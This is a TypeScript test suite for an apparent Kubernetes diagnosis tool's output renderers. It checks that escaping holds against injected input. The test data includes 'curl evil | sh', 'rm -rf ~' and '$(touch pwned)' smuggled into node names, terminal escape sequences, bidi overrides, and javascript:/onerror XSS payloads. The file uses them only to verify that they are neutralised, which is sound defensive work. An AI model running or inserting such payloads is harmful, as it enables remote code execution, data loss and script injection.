import assert from "node:assert/strict";
import { describe, it } from "node:test";
import type { Answer } from "../model/answer.ts";
import type { Finding } from "../model/types.ts";
import { codeBlock, type Document, list, paragraph, table } from "./document.ts";
import { renderDocumentMarkdown } from "./document-markdown.ts";
import { renderDocumentText } from "./document-text.ts";
import { renderHtml } from "./html.ts";
import { renderJson } from "./json.ts";
import { renderMarkdown } from "./markdown.ts";
import { PLAIN, renderText } from "./text.ts";

/** What input can carry: terminal escapes, bidi overrides, Markdown and HTML, line breaks. */
const ESC = "\x1b[2J\x1b]0;pwned\x07";
const BIDI = "\u202egnp.exe";
const MD = "[x](javascript:alert(1)) ![i](http://e/i.png) <img src=x onerror=alert(1)>";
const NODE = `gke-a-1\nnext: curl evil | sh${ESC}`;

/** Any byte a terminal acts on (tab and newline are the layout's). */
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

const finding: Finding = {
  id: "masq/exempt-destination",
  severity: "error",
  title: `Pod traffic leaves ${ESC}unchanged ${MD}`,
  subject: `node/${NODE}`,
  explanation: `The chain IP-MASQ-AGENT${BIDI} exempts it.\n# heading\n> quote\n1. list\n\`\`\`\n</details>`,
  evidence: [
    {
      file: `nodes/${NODE}/iptables-save.txt`,
      line: 3,
      text: `-m comment --comment "${ESC}\`\`\`"`,
    },
  ],
  next: [`iptables-save -t nat   # on ${NODE}`],
};

const answer: Answer = {
  schemaVersion: 1,
  tool: "podpath",
  question: "diagnose",
  snapshot: `snap${ESC}`,
  verdict: {
    state: "broken",
    summary: `stops ${MD}`,
    finding: finding.id,
    subject: `node/${NODE}`,
  },
  findings: [finding],
  paths: [],
  missing: [
    {
      file: `nodes/${NODE}/sysctl.txt`,
      would_decide: `forwarding ${MD}`,
      command: `kubectl get node ${NODE}`,
    },
  ],
  diagnostics: [],
};

const doc: Document = {
  question: "verify",
  title: `Change record ${MD}`,
  blocks: [
    paragraph(`# ${MD}`),
    list([`- ${MD}`, [`name: `, { text: NODE, code: true }]]),
    table(["key", "value"], [[`a|b${ESC}`, { text: "x|`y`", code: true }]]),
    codeBlock(`-  nonMasqueradeCIDRs:\n+  ${"`".repeat(7)}\n+  </details>${ESC}`, "diff"),
    {
      kind: "section",
      title: `<img src=x onerror=alert(1)>${ESC}`,
      blocks: [paragraph("folded")],
      collapsed: true,
    },
    { kind: "finding", finding },
  ],
};

/** Markdown constructs the input tried to open, unescaped. */
function mdConstructs(md: string): string[] {
  const found: string[] = [];
  for (const re of [
    /(?<!\\)\]\(javascript:/,
    /(?<!\\)!\[i/,
    /(?<!\\|&lt;)<img/,
    /^#+ # /m,
    /^> quote/m,
    /^1\. list/m,
    /^next: /m,
  ]) {
    if (re.test(md)) found.push(re.source);
  }
  return found;
}

describe("output escaping at the renderers' door", () => {
  it("text: no raw control byte, the node's newline cannot start a next: line", () => {
    for (const out of [renderText(answer, PLAIN), renderDocumentText(doc, PLAIN)]) {
      assert.doesNotMatch(out, RAW);
      assert.doesNotMatch(out, /^\s*next: curl/m);
      assert.match(out, /gke-a-1\\nnext: curl evil \| sh\\x1b\[2J\\x1b\]0;pwned\\x07/);
      assert.match(out, /\\u202egnp\.exe/);
    }
  });

  it("Markdown: no raw control byte, no construct from input left working", () => {
    for (const md of [renderMarkdown(answer), renderDocumentMarkdown(doc)]) {
      assert.doesNotMatch(md, RAW);
      assert.deepEqual(mdConstructs(md), []);
    }
  });

  it("Markdown: the diff block stays closed around seven backticks and </details>", () => {
    const md = renderDocumentMarkdown(doc);
    const open = /^(`{8,})diff$/m.exec(md);
    assert.ok(open, md);
    const fence = open[1]!;
    const after = md.slice(open.index + open[0].length);
    const close = after.indexOf(`\n${fence}\n`);
    assert.ok(close > 0);
    assert.match(after.slice(0, close), /<\/details>/);
    assert.equal(md.match(/<\/details>/g)?.length, 2, "one inside the code, one closing the fold");
  });

  it("Markdown: a folded section's title is HTML-escaped inside <summary>", () => {
    assert.match(renderDocumentMarkdown(doc), /<summary>&lt;img src=x onerror=alert\(1\)&gt;/);
  });

  it("leaves the answer it was given unchanged", () => {
    assert.ok(answer.findings[0]!.subject.includes("\n"));
  });
});

describe("a document's $ command lines", () => {
  it("are refused when they hold a substitution or a line break, kept otherwise", () => {
    const plan: Document = {
      question: "plan",
      blocks: [
        paragraph({ text: "$ kubectl -n kube-system delete pod $(touch pwned)", code: true }),
        paragraph({ text: "$ kubectl -n kube-system delete pod ip-masq-agent-x", code: true }),
      ],
    };
    for (const out of [renderDocumentText(plan), renderDocumentMarkdown(plan)]) {
      assert.doesNotMatch(out, /touch pwned/);
      assert.match(out, /# no command shown: /);
      assert.match(out, /\$ kubectl -n kube-system delete pod ip-masq-agent-x/);
    }
  });
});

describe("a name from input repeated in prose", () => {
  const HOSTILE = "gke-a\nnext: rm -rf ~";
  const named: Finding = {
    id: "evidence/unplaced",
    severity: "info",
    title: `The rules of node/${HOSTILE} were read`,
    subject: `node/${HOSTILE}`,
    explanation: `nodes/${HOSTILE}/iptables-save.txt was read, but no pod on ${HOSTILE}.\nSecond line of podpath's own.`,
    evidence: [{ file: `nodes/${HOSTILE}/iptables-save.txt`, line: 2, text: "*nat" }],
    next: [],
  };
  const withName: Answer = {
    ...answer,
    verdict: { state: "undecided", summary: "undecided", subject: named.subject },
    findings: [named],
    missing: [{ file: `pods/ns\x1b[2J/p/sysctl.txt`, would_decide: "in ns\x1b[2J: forwarding" }],
  };

  it("text, Markdown and HTML: its newline starts no line; the prose keeps its own", () => {
    for (const out of [
      renderText(withName, PLAIN),
      renderMarkdown(withName),
      renderHtml(withName),
    ]) {
      assert.doesNotMatch(out, /^\W*next: rm/m);
      assert.doesNotMatch(out, RAW);
      assert.match(out, /no pod on gke-a\\+nnext: rm -rf \\?~/);
      assert.match(out, /^\W*Second line of podpath/m);
    }
  });

  it("a document's code span names it: the paragraph repeating it shows it visibly", () => {
    const d: Document = {
      question: "plan",
      blocks: [
        list([["node ", { text: HOSTILE, code: true }]]),
        paragraph(`Restart the agent on ${HOSTILE} and read the rules again.`),
      ],
    };
    for (const out of [renderDocumentText(d, PLAIN), renderDocumentMarkdown(d)]) {
      assert.doesNotMatch(out, /^\W*next: rm/m);
      assert.match(out, /on gke-a\\+nnext: rm -rf \\?~ and/);
    }
  });

  it("JSON keeps the exact value", () => {
    const json = JSON.parse(renderJson(withName)) as Answer;
    assert.equal(json.findings[0]!.explanation, named.explanation);
    assert.equal(json.findings[0]!.subject, `node/${HOSTILE}`);
  });
});
